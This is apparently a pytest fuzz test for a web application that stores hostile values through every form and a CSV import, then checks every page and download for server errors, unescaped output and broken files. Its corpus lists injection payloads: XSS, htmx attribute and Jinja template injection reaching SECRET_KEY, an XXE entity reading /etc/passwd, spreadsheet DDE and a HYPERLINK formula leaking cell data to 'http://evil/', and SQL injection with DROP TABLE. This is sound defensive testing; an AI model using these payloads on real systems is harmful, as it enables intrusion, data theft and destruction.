"""Fuzzing that follows the data: hostile values stored through every form and the import, then
every page and every download fetched by every role that may see it.

Each round takes a batch of hostile values (a fixed corpus plus what hypothesis generates:
control characters, CR/LF, bidi controls, 5,000-character lines, HTML/JS, `hx-*` attributes,
Jinja, WordprocessingML, spreadsheet formulas, SQL) and
1. posts them into every text field of every form the coordinator, a client and a contractor
   meet on side A's pages (the other fields as the page gives them, so most posts are saved);
2. imports them: a dry run with a hostile value in every column, and a saved import of people
   whose names are hostile, on side B's project;
3. fetches every page and every download of both sides as every role: no server error, the
   marker `<x-fuzz>` never unescaped in HTML, every .docx/.xlsx/.ics/.csv/.json parses, and no
   line break or bidi control in a download's file name.

The size is FUZZ_VALUES (values tried; default 400, one round: the CI profile, under a minute).
The full run is `make fuzz` (FUZZ_VALUES=10000). Hypothesis is derandomized: CI runs the same
values.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import time
from dataclasses import dataclass, field
from datetime import timedelta
from urllib.parse import unquote

import docx
import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import Phase as HypothesisPhase
from hypothesis import strategies as st
from icalendar import Calendar
from sqlalchemy import select

from app.candidates.models import Candidate
from app.clock import local_today
from app.extensions import db
from app.models import Organisation, Project
from app.sanitise import BIDI_CONTROLS
from tests.fuzzing import HOSTILE, TEXT_KINDS, discover, fetch, form_fields
from tests.world import build_url, build_world, sign_in

FUZZ_VALUES = int(os.environ.get("FUZZ_VALUES", "400"))
MARKER = "<x-fuzz>"
IMPORT_ROWS = 20  # hostile rows per dry run, and people per saved import

CORPUS = (
    *HOSTILE,
    MARKER,
    f"{MARKER}<script>alert(1)</script>",
    f'<a hx-post="/admin/users" hx-trigger="load">{MARKER}</a>',
    f'" hx-get="/gdpr" hx-trigger="load" x="{MARKER}',
    f"{{{{ {MARKER} }}}}{{% if 1 %}}{MARKER}{{% endif %}}{{{{ config.SECRET_KEY }}}}",
    f"</w:t></w:r></w:p><w:p><w:r><w:t>{MARKER}</w:t></w:r></w:p><w:p><w:r><w:t xml:space='1'>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "]]><![CDATA[" + MARKER,
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/"&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "1' OR '1'='1'; --",
    "Robert'); DROP TABLE candidates;--",
    "\\x00\\n%s%n%x{0}",
    "Blok\n4",
    "Blok\r\n4",
    "Anna\nMarie",
    "\x0b\x01\x1f\x7f\x85\u2028\u2029",
    "\u202eexe.xcod\u202c",
    "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "BEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT",
    "ATTENDEE;CN=x:mailto:x@example.dk",
    "x" * 4990 + MARKER,
    ("ø" * 99 + "\n") * 50,
    "a;b;c\r\nd;e;f",
    "\"; \"quoted; ''",
    "\ufeffbom",
    "\ufffd\ufffe\uffff",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🏗️👷‍♀️",
)
CONTROL_AND_BIDI = "".join(chr(c) for c in range(0x20)) + "\x7f\x85\u2028\u2029\u202a\u202e\u2066"

hostile_value = st.one_of(
    st.sampled_from(CORPUS),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=60),
    st.text(alphabet=st.sampled_from([*CONTROL_AND_BIDI, *"<>&\"'{}%=|;/\\ ab"]), max_size=40),
    st.lists(st.sampled_from(CORPUS), min_size=2, max_size=3).map("".join),
    st.tuples(st.sampled_from(CORPUS), st.sampled_from(CONTROL_AND_BIDI)).map("".join),
)

ROLES = {
    "A": ("coordinator", "admin", "client_a", "contractor_a", "spare_a"),
    "B": ("coordinator", "client_b", "contractor_b"),
}
FORM_ROLES = ("coordinator", "contractor_a", "client_a")
IMPORT_HEADER = (
    "Fornavn", "Efternavn", "Telefon", "Email", "Boligforening", "Boligområde", "Henvist af",
    "Byggesag", "Virksomhed", "Trin", "Start", "Planlagt slut", "Slut", "Udfald",
    "Samtaler før match",
)  # fmt: skip


@dataclass
class Tally:
    values: int = 0
    posts: int = 0
    saved: int = 0  # form posts the app accepted (the hostile values were stored)
    requests: int = 0
    saved_people: int = 0
    downloads: dict[str, int] = field(default_factory=dict)
    problems: list[str] = field(default_factory=list)

    def problem(self, text: str) -> None:
        if len(self.problems) < 200:
            self.problems.append(text[:500])


def parse_download(url: str, mimetype: str, data: bytes) -> None:
    """Parse the file with the library its format calls for; raise if it does not open."""
    if url.endswith(".docx"):
        docx.Document(io.BytesIO(data))
    elif url.endswith(".xlsx"):
        book = openpyxl.load_workbook(io.BytesIO(data))
        for sheet in book.worksheets:
            list(sheet.iter_rows(values_only=True))
    elif url.endswith(".ics"):
        calendar = Calendar.from_ical(data)
        assert calendar.walk("VEVENT"), "no event"
    elif url.endswith(".csv"):
        list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    elif url.endswith(".json"):
        json.loads(data)
    else:
        data.decode("utf-8")


class Run:
    def __init__(self, app, world):
        self.app, self.world = app, world
        self.client = app.test_client()
        self.tally = Tally()
        self.rounds = 0
        rules = [r for r in app.url_map.iter_rules() if "GET" in r.methods]
        self.get_rules = sorted(
            (r for r in rules if r.endpoint != "static" and r.endpoint != "auth.logout"),
            key=lambda r: r.rule,
        )
        self.forms = []
        for identity in FORM_ROLES:
            user = world.user(identity)
            found = discover(app, self.client, user, world.sides["A"].ids)
            for form in found.values():
                if not form.endpoint.startswith(("auth.", "imports.")):
                    self.forms.append((user, form))

    # --- storing --------------------------------------------------------------------------

    def post_forms(self, values: list[str]) -> None:
        queue = iter(values * 50)
        for user, form in self.forms:
            html = fetch(self.client, user, form.page, form.opened_by)
            fields, kinds = form_fields(html or "", form.action)
            if not fields:
                continue
            text = [n for n in fields if kinds.get(n) in TEXT_KINDS and kinds[n] != "password"]
            if not text:
                continue  # a button: nothing of ours to store
            payload = dict(fields)
            for name in text:
                payload[name] = next(queue)
                self.tally.values += 1
            response = self.request("POST", form.action, user, data=payload, what=form.endpoint)
            if response is not None and response.status_code in (200, 204, 303):
                self.tally.saved += 1

    def import_values(self, values: list[str]) -> None:
        """A dry run with a hostile value in every column; then a saved import of people with
        hostile names on side B's project."""
        coordinator = self.world.coordinator
        rows = []
        for i in range(IMPORT_ROWS):
            rows.append([values[(i * 15 + j) % len(values)] for j in range(len(IMPORT_HEADER))])
        self.tally.values += IMPORT_ROWS * len(IMPORT_HEADER)
        self.request("POST", "/imports/", coordinator, data=_upload(rows), what="import check")

        b = self.world.sides["B"].ids
        project = db.session.get(Project, b["project_id"])
        association = db.session.get(Organisation, b["org_id"])
        company = project.main_contractor
        start = local_today() - timedelta(days=5)
        people = []
        for i, value in enumerate(values[:IMPORT_ROWS]):
            first = value.strip()[:90] or "x"
            phone = f"{20000000 + self.tally.saved_people + i}"
            people.append(
                [first, f"E{i}", phone, "", association.name, association.areas[0].name, "andet",
                 project.name, company.name, "praktik", start.isoformat(), "", "", "", "3"]
            )  # fmt: skip
        self.tally.values += len(people)
        response = self.request("POST", "/imports/", coordinator, data=_upload(people))
        html = response.get_data(as_text=True) if response is not None else ""
        # Only the rows the check accepts can be saved: keep those, import them for real.
        token = re.search(r'name="token" value="([^"]+)"', html)
        if token is None:
            ok = []
            for row in people:
                one = self.request("POST", "/imports/", coordinator, data=_upload([row]))
                if one is not None and 'name="token"' in one.get_data(as_text=True):
                    ok.append(row)
            if not ok:
                return
            people = ok
            response = self.request("POST", "/imports/", coordinator, data=_upload(people))
            token = re.search(r'name="token" value="([^"]+)"', response.get_data(as_text=True))
        saved = self.request(
            "POST", "/imports/confirm", coordinator, data=_upload(people, token=token.group(1))
        )
        if saved is not None and saved.status_code in (200, 303):
            self.tally.saved_people += len(people)

    # --- following the data ---------------------------------------------------------------

    def fetch_everything(self) -> None:
        for side, identities in ROLES.items():
            ids = dict(self.world.sides[side].ids)
            newest = db.session.scalar(select(Candidate.id).order_by(Candidate.id.desc()))
            for identity in identities:
                user = self.world.user(identity)
                for rule in self.get_rules:
                    urls = [build_url(rule, ids)]
                    if side == "B" and "candidate_id" in rule.arguments and newest:
                        urls.append(build_url(rule, {**ids, "candidate_id": newest}))
                    for url in urls:
                        self.request("GET", url, user, who=identity)

    def request(self, method: str, url: str, user, *, data=None, what: str = "", who: str = ""):
        sign_in(self.client, user)
        self.tally.requests += 1
        if method == "POST":
            self.tally.posts += 1
        who = who or (user.name if user else "anonymous")
        where = f"{method} {url} ({what}) as {who}"
        try:
            response = self.client.open(url, method=method, data=data)
        except Exception as error:  # TESTING propagates what would be a 500
            db.session.rollback()
            self.tally.problem(f"server error {where}: {error!r}")
            return None
        if response.status_code >= 500:
            self.tally.problem(f"{response.status_code} {where}")
            return response
        disposition = response.headers.get("Content-Disposition", "")
        if response.mimetype == "text/html":
            html = response.get_data(as_text=True)
            if MARKER in html or "<script>alert" in html:
                self.tally.problem(f"unescaped marker reflected by {where}")
        elif disposition and response.status_code == 200:
            if BIDI_CONTROLS.search(unquote(disposition)) or "\n" in disposition:
                self.tally.problem(f"unsafe file name {disposition!r:.200} from {where}")
            try:
                parse_download(url, response.mimetype, response.data)
            except Exception as error:
                self.tally.problem(f"file does not open: {where}: {error!r}")
            key = who or "?"
            self.tally.downloads[key] = self.tally.downloads.get(key, 0) + 1
        return response


def _upload(rows, token: str | None = None) -> dict:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow(IMPORT_HEADER)
    writer.writerows(rows)
    data = {"file": (io.BytesIO(("\ufeff" + buffer.getvalue()).encode("utf-8")), "fuzz.csv")}
    if token:
        data["token"] = token
    return data


def test_hostile_values_follow_the_data_into_every_page_and_file(app, ctx, capsys):
    started = time.monotonic()
    world = build_world()
    run = Run(app, world)
    batch = max(len(run.forms) * 2, 60)
    rounds = max(1, -(-FUZZ_VALUES // (batch + IMPORT_ROWS * (len(IMPORT_HEADER) + 1))))

    @settings(
        max_examples=rounds,
        deadline=None,
        derandomize=True,
        database=None,
        phases=(HypothesisPhase.generate,),  # problems are collected: nothing to shrink
        suppress_health_check=list(HealthCheck),
    )
    @given(values=st.lists(hostile_value, min_size=batch, max_size=batch))
    def one_round(values):
        # Hypothesis starts from its simplest examples; every other value comes from the
        # corpus, rotating, so each round carries the known-hostile ones too.
        offset = run.rounds * batch
        run.rounds += 1
        for i in range(0, len(values), 2):
            values[i] = CORPUS[(offset + i // 2) % len(CORPUS)]
        run.post_forms(values)
        run.import_values(values)
        run.fetch_everything()

    one_round()
    tally = run.tally
    with capsys.disabled():
        per_role = ", ".join(f"{role} {n}" for role, n in sorted(tally.downloads.items()))
        print(
            f"\nfuzz-files: {tally.values} values tried in {rounds} rounds, {tally.requests} "
            f"requests ({tally.posts} posts, {tally.saved} forms saved), {tally.saved_people} "
            f"people imported; downloads "
            f"checked per role: {per_role}; {len(tally.problems)} problems; "
            f"{time.monotonic() - started:.0f} s"
        )
    assert tally.problems == [], "\n".join(tally.problems)
    assert tally.values >= FUZZ_VALUES
    assert tally.saved_people > 0, "the import saved no one: the names never reached the files"
    assert tally.downloads.get("client_a", 0) > 0 and tally.downloads.get("contractor_a", 0) > 0
